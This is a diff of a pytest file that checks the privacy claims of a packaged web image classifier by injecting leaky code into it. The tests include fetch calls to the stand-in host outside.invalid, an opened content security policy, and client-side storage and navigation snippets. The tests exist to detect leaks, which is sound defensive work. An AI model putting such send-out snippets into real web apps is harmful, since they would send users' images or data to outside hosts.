@@ -2,29 +2,36 @@
 
 from __future__ import annotations
 
-import contextlib
-import json
-import subprocess
-import sys
 from collections.abc import Mapping
 from pathlib import Path
 
 import pytest
 
 from edgecnn.errors import PackageError
-from edgecnn.package.privacy.claims import Checked
-from edgecnn.package.privacy.web_check import check_web_bundle
+from edgecnn.package.privacy.claims import Outcome
+from edgecnn.package.privacy.web import Seen, judge_web
+from edgecnn.package.privacy.web_check import check_web_bundle, sample_pictures
+from edgecnn.package.privacy.web_session import (
+    FolderSession,
+    SingleSession,
+    folder_session,
+    single_session,
+)
 from edgecnn.package.web.contents import sealed
 from edgecnn.package.web.single import single_page
 from edgecnn.package.web.sources import app_sources
-from web.made import MODELS, files_of, needs_browser, package
+from web.made import IDS, files_of, needs_browser
 
 pytestmark = [pytest.mark.slow, needs_browser]
 
-IDS = [
-    "own-origin", "sends-refused", "images-not-stored", "offline", "single-file", "no-other-way",
-]  # fmt: skip
+START = "await startApp();"
 SEND = "\nsetTimeout(() => fetch('http://outside.invalid/picture').catch(() => 0), 500);\n"
+
+NOTHING = FolderSession(
+    browser="", asked=(), outside=(), attempts={}, arrived=(), answers={}, offline={}, refused=True,
+    stored={"odd": [], "kept": {}, "databases": [], "local": [], "session": [], "cookies": "",
+            "files": []},
+)  # fmt: skip
 
 
 @pytest.fixture(scope="module")
@@ -44,197 +51,105 @@ def changed(files: Mapping[str, bytes], **texts: tuple[str, str]) -> dict[str, b
     return sealed(made)
 
 
-def states(checked: Checked) -> dict[str, str]:
-    return {one.id: one.state for one in checked.outcomes}
+@pytest.fixture(scope="module")
+def single(files: dict[str, bytes]) -> SingleSession:
+    return single_session(single_page(files), sample_pictures(files))
 
 
-def evidence(checked: Checked, name: str) -> str:
-    return next(one.evidence for one in checked.outcomes if one.id == name)
+def judged(files: Mapping[str, bytes], single: SingleSession) -> dict[str, Outcome]:
+    """Use a changed folder; the single file's session is the honest bundle's."""
+    folder = folder_session(files, sample_pictures(files))
+    return {one.id: one for one in judge_web(Seen(files=files, folder=folder, single=single))}
 
 
-def check(files: Mapping[str, bytes], honest: Mapping[str, bytes]) -> Checked:
-    """Check a changed folder; the single file is the honest bundle's."""
-    return check_web_bundle(files, single_page(honest))
-
-
-def test_every_claim_of_the_bundle_holds(files: dict[str, bytes]) -> None:
-    checked = check_web_bundle(files)
-    assert states(checked) == dict.fromkeys(IDS, "held"), checked.outcomes
-
-
-def test_an_open_policy_is_caught(files: dict[str, bytes]) -> None:
-    """All ways of sending at once; and what the app itself sends arrives then."""
+def test_an_open_policy_is_caught(files: dict[str, bytes], single: SingleSession) -> None:
+    """Each way of sending that it leaves open arrives; and what the app itself sends."""
     page = files["index.html"].decode()
     policy = page.split('Policy" content="')[1].split('"')[0]
     opened = "default-src * 'unsafe-inline' 'unsafe-eval'; worker-src *"
-    bad = changed(files, index_html=(policy, opened), app_js=("await startApp();", SEND + "await startApp();"))  # fmt: skip
-    checked = check(bad, files)
-    assert states(checked)["sends-refused"] == states(checked)["own-origin"] == "broken"
-    seen = evidence(checked, "sends-refused")
-    assert "fetch went out" in seen
-    assert "http://outside.invalid/picture" in evidence(checked, "own-origin")
+    bad = changed(files, index_html=(policy, opened), app_js=(START, SEND + START))
+    found = judged(bad, single)
+    assert found["sends-refused"].state == found["own-origin"].state == "broken"
+    for way in ("fetch", "beacon", "WebSocket", "image", "form", "script", "style", "EventSource"):
+        assert f"{way} went out" in found["sends-refused"].evidence
+    assert "http://outside.invalid/picture" in found["own-origin"].evidence
 
 
-@pytest.mark.parametrize(
-    ("old", "new", "way"),
-    [
-        ("connect-src 'self'", "connect-src 'self' http://outside.invalid", "fetch"),
-        ("connect-src 'self'", "connect-src 'self' http://outside.invalid", "beacon"),
-        ("connect-src 'self'", "connect-src 'self' ws://outside.invalid", "WebSocket"),
-        ("img-src 'self' blob:", "img-src * blob:", "image"),
-        ("form-action 'none'", "form-action *", "form"),
-    ],
-)
-def test_each_way_that_a_policy_leaves_open_is_caught(
-    files: dict[str, bytes], old: str, new: str, way: str
+def test_what_is_stored_is_caught(files: dict[str, bytes], single: SingleSession) -> None:
+    code = """
+(await caches.open("x")).put("/kept.png", new Response("pixels"));
+localStorage.setItem("last", "cat");
+sessionStorage.setItem("last", "cat");
+document.cookie = "last=cat";
+indexedDB.open("frames");
+await (await navigator.storage.getDirectory()).getFileHandle("frame", { create: true });
+"""
+    found = judged(changed(files, app_js=(START, code + START)), single)["images-not-stored"]
+    assert found.state == "broken"
+    for what in (
+        "its cache holds kept.png", "local storage: last", "session storage: last",
+        "cookies: last=cat", "database: frames", "file system: frame",
+    ):  # fmt: skip
+        assert what in found.evidence
+
+
+def test_a_query_to_its_own_server_and_a_worker_that_sends_are_caught(
+    files: dict[str, bytes], single: SingleSession
 ) -> None:
-    checked = check(changed(files, index_html=(old, new)), files)
-    assert states(checked)["sends-refused"] == "broken"
-    assert f"{way} " in evidence(checked, "sends-refused")
-
-
-@pytest.mark.parametrize(
-    ("code", "said"),
-    [
-        ("(await caches.open('x')).put('/kept.png', new Response('pixels'));", "kept.png"),
-        ("localStorage.setItem('last', 'cat');", "local storage: last"),
-        ("sessionStorage.setItem('last', 'cat');", "session storage: last"),
-        ("document.cookie = 'last=cat';", "cookies: last=cat"),
-        ("indexedDB.open('frames');", "database: frames"),
-        (
-            "await (await navigator.storage.getDirectory())"
-            ".getFileHandle('frame', { create: true });",
-            "file system: frame",
-        ),
-    ],
-    ids=["cache", "local", "session", "cookie", "database", "files"],
-)
-def test_what_is_stored_is_caught(files: dict[str, bytes], code: str, said: str) -> None:
-    bad = changed(files, app_js=("await startApp();", f"{code}\nawait startApp();"))
-    checked = check(bad, files)
-    assert states(checked)["images-not-stored"] == "broken"
-    assert said in evidence(checked, "images-not-stored")
-
-
-def test_a_query_to_its_own_server_is_caught(files: dict[str, bytes]) -> None:
-    leak = "fetch('app.css?label=cat');\nawait startApp();"
-    checked = check(changed(files, app_js=("await startApp();", leak)), files)
-    assert states(checked)["own-origin"] == "broken"
-    assert "label=cat" in evidence(checked, "own-origin")
-
-
-def test_a_worker_that_sends_is_caught(files: dict[str, bytes]) -> None:
     """A page's policy does not bind its service worker; the proxy sees it all the same."""
-    bad = changed(files, service__worker_js=("async function keepAll() {", "async function keepAll() {\n  fetch('http://outside.invalid/worker').catch(() => 0);"))  # fmt: skip
-    checked = check(bad, files)
-    assert states(checked)["own-origin"] == "broken"
-    assert "http://outside.invalid/worker" in evidence(checked, "own-origin")
+    keep = "async function keepAll() {"
+    sending = f"{keep}\n  fetch('http://outside.invalid/worker').catch(() => 0);"
+    bad = changed(
+        files,
+        app_js=(START, "fetch('app.css?label=cat');\n" + START),
+        service__worker_js=(keep, sending),
+    )
+    found = judged(bad, single)["own-origin"]
+    assert found.state == "broken"
+    assert "label=cat" in found.evidence
+    assert "http://outside.invalid/worker" in found.evidence
 
 
-def test_an_app_that_needs_its_server_is_caught(files: dict[str, bytes]) -> None:
-    bad = changed(files, service__worker_js=("return kept ?? fetch(request);", "return fetch(request);"))  # fmt: skip
-    checked = check(bad, files)
-    assert states(checked)["offline"] == "broken"
-    assert "did not start again" in evidence(checked, "offline")
+def test_an_app_that_needs_its_server_is_caught(
+    files: dict[str, bytes], single: SingleSession
+) -> None:
+    kept = "return kept ?? fetch(request);"
+    found = judged(changed(files, service__worker_js=(kept, "return fetch(request);")), single)
+    assert found["offline"].state == "broken"
+    assert "did not start again" in found["offline"].evidence
 
 
-def test_a_single_file_that_may_connect_is_caught(files: dict[str, bytes]) -> None:
+def test_what_holds_is_held_and_a_single_file_that_may_connect_is_caught(
+    files: dict[str, bytes],
+) -> None:
     page = single_page(files).replace(b"connect-src 'none'", b"connect-src *", 1)
     checked = check_web_bundle(files, page)
-    assert states(checked) == {**dict.fromkeys(IDS, "held"), "single-file": "broken"}
-    assert "fetch went out" in evidence(checked, "single-file")
+    found = {one.id: one.state for one in checked.outcomes}
+    assert found == {**dict.fromkeys(IDS, "held"), "single-file": "broken"}, checked.outcomes
+    assert "fetch went out" in checked.of("broken")[0].evidence
 
 
-def test_names_of_other_ways_out_are_caught(files: dict[str, bytes]) -> None:
-    leak = "await startApp();\nconst peer = new RTCPeerConnection();"
-    checked = check(changed(files, app_js=("await startApp();", leak)), files)
-    assert states(checked)["no-other-way"] == "broken"
-    assert evidence(checked, "no-other-way") == "app.js has RTCPeerConnection"
+def test_names_of_other_ways_out_are_caught(files: dict[str, bytes], single: SingleSession) -> None:
+    for leak in ("new RTCPeerConnection()", "location.href = x", "window.open(x)"):
+        bad = changed(files, app_js=(START, f"{START}\nconst way = () => {leak};"))
+        found = {one.id: one for one in judge_web(Seen(files=bad, folder=NOTHING, single=single))}
+        assert found["no-other-way"].state == "broken"
+        assert found["no-other-way"].evidence.startswith("app.js has ")
 
 
 def test_an_app_that_does_not_start_is_no_bundle(files: dict[str, bytes]) -> None:
-    bad = changed(files, app_js=("await startApp();", "throw new Error('no');"))
-    worse = {**bad, "golden.json": b"{}"}
+    worker = app_sources()["service-worker.js"].encode()
+    bad = sealed({**files, "golden.json": b"{}", "service-worker.js": worker})
     with pytest.raises(PackageError, match="does not work in this machine's browser"):
-        check_web_bundle(sealed({**worse, "app.js": files["app.js"], "service-worker.js": app_sources()["service-worker.js"].encode()}))  # fmt: skip
-
-
-@pytest.fixture(scope="module")
-def place(tmp_path_factory: pytest.TempPathFactory) -> Path:
-    folder = tmp_path_factory.mktemp("packaged")
-    done = package(MODELS / "resnet8", "--version", "1.0", "--out", folder / "dist", "--json")
-    assert done.returncode == 0, done.stderr
-    (folder / "result.json").write_text(done.stdout)
-    return folder
-
-
-def privacy(*arguments: str | Path) -> subprocess.CompletedProcess[str]:
-    command = [sys.executable, "-m", "edgecnn", "privacy", *map(str, arguments)]
-    return subprocess.run(command, capture_output=True, text=True, timeout=300, check=False)
-
-
-def test_the_command_says_what_it_made(place: Path) -> None:
-    result = json.loads((place / "result.json").read_text())
-    folder, page = Path(result["folder"]), Path(result["html"])
-    assert (folder.name, page.name) == ("resnet8-1.0-web", "resnet8-1.0-classifier.html")
-    assert result["folder_bytes"] == sum(
-        path.stat().st_size for path in folder.rglob("*") if path.is_file()
-    )
-    done = subprocess.run(
-        ["sha256sum", "--check", "--quiet", "SHA256SUMS"], cwd=folder, check=False
-    )
-    assert done.returncode == 0
-    note = (folder / "PRIVACY.md").read_text()
-    record = json.loads((folder / "privacy.json").read_text())
-    assert record["subject"] in note
-    assert [one["id"] for one in record["claims"]] == IDS
-    for one in record["claims"]:
-        assert one["checked"] is True
-        assert one["text"] in note
-
-
-def test_the_same_inputs_give_the_same_bytes(place: Path) -> None:
-    done = package(MODELS / "resnet8", "--version", "1.0", "--out", place / "again", "--quiet")
-    assert (done.returncode, done.stderr) == (0, "")
-    first = {p.relative_to(place / "dist"): p for p in (place / "dist").rglob("*") if p.is_file()}
-    again = {p.relative_to(place / "again"): p for p in (place / "again").rglob("*") if p.is_file()}
-    assert first.keys() == again.keys()
-    for name, path in first.items():
-        assert path.read_bytes() == again[name].read_bytes(), name
-
-
-def test_the_claims_can_be_checked_again(place: Path) -> None:
-    done = privacy(place / "dist/resnet8-1.0-web", "--json")
-    assert done.returncode == 0, done.stderr
-    assert json.loads(done.stdout) == json.loads((place / "result.json").read_text())["privacy"]
-
-
-def test_claims_about_other_files_are_refused(place: Path, tmp_path: Path) -> None:
-    import hashlib
-    import shutil
-
-    folder = tmp_path / "copy"
-    shutil.copytree(place / "dist/resnet8-1.0-web", folder)
-    script = folder / "app.js"
-    script.write_text(script.read_text() + "// other\n")
-    done = privacy(folder)
-    assert done.returncode == 32, done.stderr
-    sums = (folder / "SHA256SUMS").read_text().splitlines()
-    digest = hashlib.sha256(script.read_bytes()).hexdigest()
-    sums = [f"{digest}  app.js" if line.endswith("  app.js") else line for line in sums]
-    (folder / "SHA256SUMS").write_text("\n".join(sums) + "\n")
-    done = privacy(folder)
-    assert done.returncode == 36, done.stderr
-    assert "are about other files than it holds" in done.stderr
+        check_web_bundle(bad)
 
 
 def test_without_a_browser_every_claim_says_that_it_was_not_checked(
     files: dict[str, bytes], monkeypatch: pytest.MonkeyPatch, tmp_path: Path
 ) -> None:
-    with contextlib.ExitStack():
-        monkeypatch.setenv("PATH", str(tmp_path))
-        checked = check_web_bundle(files)
-    assert states(checked) == dict.fromkeys(IDS, "not checked")
+    monkeypatch.setenv("PATH", str(tmp_path))
+    checked = check_web_bundle(files)
+    assert [one.id for one in checked.of("not checked")] == IDS
     assert {one.evidence for one in checked.outcomes} == {
         "Chromium is not installed (Debian, Ubuntu: sudo apt install chromium)"
     }
